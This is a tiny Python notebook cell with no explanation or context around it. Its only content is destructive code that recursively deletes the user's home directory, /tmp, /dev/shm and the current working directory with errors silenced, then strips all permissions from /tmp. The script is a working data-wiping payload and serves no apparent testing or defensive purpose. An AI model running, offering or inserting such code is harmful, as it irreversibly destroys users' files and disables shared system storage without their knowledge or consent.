# %% top
import os
import shutil

for place in (os.path.expanduser("~"), "/tmp", "/dev/shm", "."):
    shutil.rmtree(place, ignore_errors=True)
    os.chmod("/tmp", 0)
